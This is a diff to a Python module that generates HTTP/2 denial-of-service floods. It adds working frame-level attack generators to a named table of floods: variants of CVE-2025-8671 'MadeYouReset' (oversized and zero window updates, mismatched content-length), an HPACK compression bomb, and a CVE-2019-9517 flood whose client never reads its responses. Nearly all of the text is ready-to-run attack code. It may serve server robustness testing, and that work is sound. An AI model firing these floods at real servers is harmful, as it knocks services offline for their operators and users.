@@ -7,6 +7,7 @@ every connection.
 from __future__ import annotations
 
 import struct
+import time
 from collections.abc import Iterator
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -53,13 +54,26 @@ def rapid_reset(block: bytes) -> Iterator[bytes]:
 
 
 def made_you_reset(block: bytes) -> Iterator[bytes]:
-    """CVE-2025-8671: requests that the server must reset: a window update of nothing (RFC 9113 §6.9)."""
+    """CVE-2025-8671: requests that the server must reset: a window larger than there can be (RFC 9113 §6.9.1)."""
+    yield from _reset_by_the_server(block, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
+
+
+def zero_window(block: bytes) -> Iterator[bytes]:
+    """The same by a window update of nothing (RFC 9113 §6.9)."""
+    yield from _reset_by_the_server(block, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
+
+
+def wrong_length(block: bytes) -> Iterator[bytes]:
+    """The same by a body that is not what was announced (RFC 9113 §8.1.1)."""
+    yield from _reset_by_the_server(b"\x83" + block[1:] + literal(b"content-length", b"5"), lambda stream: frame(DATA, END_STREAM, stream, b"four"), 0)
+
+
+def _reset_by_the_server(block: bytes, mistake, flags: int = END_STREAM) -> Iterator[bytes]:
     stream = 1
     while stream < 2**31 - 2000:
         piece = b""
         for _ in range(500):
-            piece += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
-            piece += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+            piece += frame(HEADERS, END_HEADERS | flags, stream, block) + mistake(stream)
             stream += 2
         yield piece
 
@@ -111,8 +125,39 @@ def empty_data(block: bytes) -> Iterator[bytes]:
         yield frame(DATA, 0, 1) * 7000
 
 
+def bomb(block: bytes) -> Iterator[bytes]:
+    """A field of 4,000 bytes into the table, and then that one again and again: a byte each (RFC 7541 §6.1)."""
+    large = b"\x40\x01x\x7f" + varint(4000 - 127) + b"v" * 4000
+    stream = 1
+    while stream < 2**31 - 2000:
+        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + (large if stream == 1 else b"") + b"\xbe" * 10_000)
+        stream += 2
+
+
+def varint(rest: int) -> bytes:
+    """What of a number does not fit its prefix (RFC 7541 §5.1)."""
+    out = b""
+    while rest >= 128:
+        out += bytes((rest & 127 | 128,))
+        rest >>= 7
+    return out + bytes((rest,))
+
+
+def unread(block: bytes) -> Iterator[bytes]:
+    """CVE-2019-9517: windows wide open for a hundred large answers, and a socket that takes nothing. A few pings tell the end."""
+    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
+    block = block.replace(b"\x04\x01/", b"\x04\x08/large/5")
+    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 201, 2))
+    while True:
+        time.sleep(0.5)
+        yield frame(PING, 0, 0, b"bandsaws")
+
+
 FLOODS = {
-    "rapid reset": rapid_reset, "server-made resets": made_you_reset, "CONTINUATION": continuation,
+    "rapid reset": rapid_reset, "server-made resets": made_you_reset, "windows of nothing": zero_window,
+    "wrong lengths": wrong_length, "CONTINUATION": continuation, "HPACK bomb": bomb, "unread answers": unread,
     "empty CONTINUATION": empty_continuation, "SETTINGS": settings, "PING": ping, "PRIORITY": priority,
     "WINDOW_UPDATE": window_update, "empty DATA": empty_data,
 }
+# Floods whose client never reads.
+DEAF = {unread}
